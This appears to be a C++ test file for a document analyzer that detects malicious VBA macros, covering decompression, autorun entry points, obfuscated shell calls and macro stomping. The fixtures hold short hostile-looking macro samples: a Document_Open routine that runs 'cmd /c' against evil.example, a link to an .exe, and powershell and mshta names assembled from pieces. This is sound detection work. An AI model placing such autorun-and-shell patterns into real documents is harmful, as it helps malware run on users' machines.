#include "analyzer/documents/vba_macros.h"

#include <algorithm>

#include <catch2/catch.hpp>

#include "analyzer/documents/vba_compression.h"
#include "analyzer/documents/vba_source.h"
#include "tests/support/ole_writer.h"

using namespace secondlook;
using Words = std::set<std::string>;

namespace {

VbaBehaviour behaviour_of(std::string_view source) {
  VbaBehaviour behaviour;
  read_vba_source(source, behaviour);
  return behaviour;
}

DocumentFindings inspect(const std::vector<test::OleFile>& files) {
  DocumentFindings findings;
  const std::string file = test::make_ole(files);
  const auto storage = OleStorage::open(file);
  REQUIRE(storage);
  inspect_vba_macros(*storage, findings);
  return findings;
}

std::string detail_of(const DocumentFindings& findings, std::string_view name) {
  for (const DocumentFact& fact : findings.facts())
    if (fact.name == name) return fact.detail;
  return "no such fact";
}

const std::string kStarts = "Private Sub Document_Open()\r\n";

}  // namespace

TEST_CASE("the example of MS-OVBA 3.2.2 decompresses") {
  const std::string container(
      "\x01\x2F\xB0\x00\x23\x61\x61\x61\x62\x63\x64\x65\x82\x66\x00\x70\x61\x67\x68\x69\x6A\x01\x38"
      "\x08\x61\x6B\x6C\x00\x30\x6D\x6E\x6F\x70\x06\x71\x02\x70\x04\x10\x72\x73\x74\x75\x76\x10\x77"
      "\x78\x79\x7A\x00\x3C",
      51);
  const auto result = decompress_vba(container, 1000);
  CHECK(result.bytes == "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa");
  CHECK_FALSE(result.damaged);
}

TEST_CASE("what the compressor wrote comes out again, over several chunks") {
  std::string text;
  for (int i = 0; i < 900; ++i) text += "line " + std::to_string(i * i) + " of the text\r\n";
  const std::string container = test::compress_vba(text);
  CHECK(container.size() < text.size() / 2);
  CHECK(decompress_vba(container, 1 << 20).bytes == text);
  const auto bounded = decompress_vba(container, 5000);
  CHECK(bounded.bytes == text.substr(0, 5000));
  CHECK(bounded.damaged);
}

TEST_CASE("containers that point before themselves, or are none, are damaged") {
  CHECK(decompress_vba("", 100).damaged);
  CHECK(decompress_vba("\x02", 100).damaged);
  CHECK(decompress_vba(std::string("\x01\x03\xB0\x01\xFF\xFF\x00", 7), 100).damaged);
  const std::string whole = test::compress_vba("Attribute VB_Name = \"a\"\r\naaaaaaaaaaaaaaaa");
  for (std::size_t size = 0; size < whole.size(); ++size)
    CHECK(decompress_vba(whole.substr(0, size), 100).bytes.size() <= 100);
}

TEST_CASE("what starts by itself, and what acts, are told apart") {
  const auto opens = behaviour_of("Sub Workbook_Open()\nMsgBox \"Hello\"\nEnd Sub\n");
  CHECK(opens.starts == Words{"workbook_open"});
  CHECK(opens.acts.empty());
  const auto acts = behaviour_of("Sub Report()\n x = Shell(\"calc\", 1)\nEnd Sub\n");
  CHECK(acts.starts.empty());
  CHECK(acts.acts == Words{"shell"});
  const auto both = behaviour_of("sub AUTOOPEN ()\r\nCreateObject(\"WScript.Shell\").Run \"x\"");
  CHECK(both.starts == Words{"autoopen"});
  CHECK(both.acts == Words{"wscript.shell"});
  CHECK(both.reaches == Words{"createobject"});
  CHECK(behaviour_of("Sub InkPicture1_Painted(ByVal h As Long)").starts ==
        Words{"inkpicture1_painted"});
}

TEST_CASE("comments, other texts and members of the same name do not act") {
  const auto found = behaviour_of(
      "' Shell \"cmd.exe\"\nRem powershell\nMsgBox \"The shell is empty\"\n"
      "x = Sheet.Shell\nCall AutoOpen\nDim y As Seashell\n");
  CHECK(found.acts.empty());
  CHECK(found.starts.empty());
  CHECK(behaviour_of("VBA.Shell x").acts == Words{"shell"});
}

TEST_CASE("words in pieces are put together") {
  CHECK(behaviour_of("x = \"power\" & \"sh\" + \"ell -enc\"").acts == Words{"powershell"});
  CHECK(behaviour_of("x = \"power\" & _\r\n  \"shell\"").acts == Words{"powershell"});
  CHECK(behaviour_of("x = Chr(109) & ChrW$(&H73) & \"hta\"").acts == Words{"mshta"});
  CHECK(behaviour_of("a = \"powe\"\nb = \"rshe\"\nc = \"ll\"").acts == Words{"powershell"});
  CHECK(behaviour_of("x = CreateObject(Decode(y))").acts ==
        Words{"createobject of a computed name"});
  CHECK(behaviour_of("x = \"a\" & Chr(999999999999)").acts.empty());
}

TEST_CASE("ordinary office automation reaches out, and does not act") {
  const auto found = behaviour_of(
      "Private Declare PtrSafe Sub Sleep Lib \"kernel32\" (ByVal ms As Long)\n"
      "Set d = CreateObject(\"Scripting.Dictionary\")\np = Environ(\"USERNAME\")\n");
  CHECK(found.acts.empty());
  CHECK(found.reaches == Words{"createobject", "declare", "environ"});
}

TEST_CASE("addresses in the code are links") {
  const auto found =
      behaviour_of("u = \"http://evil.exa\" & \"mple/a.exe\": v = \"HTTPS://B.example\"");
  CHECK(found.urls == std::vector<std::string>{"http://evil.example/a.exe", "HTTPS://B.example"});
}

TEST_CASE("a document's macros become facts, with the words found") {
  auto files = test::vba_project(
      "Macros",
      {{"ThisDocument", kStarts + "Shell \"cmd /c \" & \"http://evil.example/x\"\r\nEnd Sub\r\n"},
       {"Module1", "Option Explicit\r\n"}});
  files.push_back({"WordDocument", "x"});
  const auto found = inspect(files);
  CHECK(detail_of(found, "macro") == "ThisDocument");
  CHECK(detail_of(found, "macro_autorun") == "document_open");
  CHECK(detail_of(found, "macro_acts") == "cmd /c, shell");
  CHECK(found.urls() == std::vector<std::string>{"http://evil.example/x"});
  CHECK(found.unseen().empty());
}

TEST_CASE("a project of empty modules is no macro") {
  const auto found = inspect(test::vba_project("", {{"ThisWorkbook", ""}, {"Sheet1", "\r\n"}}));
  CHECK(found.facts().empty());
  CHECK(found.unseen().empty());
}

TEST_CASE("macros are found without a directory that tells where they lie") {
  auto files = test::vba_project("Macros", {{"ThisDocument", kStarts + "Shell x\r\n"}});
  for (test::OleFile& file : files)
    if (file.path.ends_with("dir")) file.content = "damaged";
  CHECK(inspect(files).holds("macro_acts"));
  for (test::OleFile& file : files)
    if (file.path.ends_with("dir")) file.content = "";
  CHECK(inspect(files).holds("macro_autorun"));
}

TEST_CASE("a module whose text was taken out, and its compiled code left, is told") {
  auto files = test::vba_project("Macros", {{"ThisDocument", ""}, {"Module1", "Sub x()\r\n"}});
  files[0].content = std::string(500, '\xCC');
  const auto found = inspect(files);
  CHECK(found.holds("macro_stomped"));
  CHECK(detail_of(found, "macro_stomped") == "ThisDocument");
}

TEST_CASE("too many projects are not all looked into, and that is said") {
  std::vector<test::OleFile> files;
  for (int i = 0; i < 30; ++i)
    for (const auto& file : test::vba_project("p" + std::to_string(i), {{"m", "x = 1"}}))
      files.push_back(file);
  CHECK(inspect(files).unseen() == std::vector<std::string>{"only a part of the macros looked at"});
}
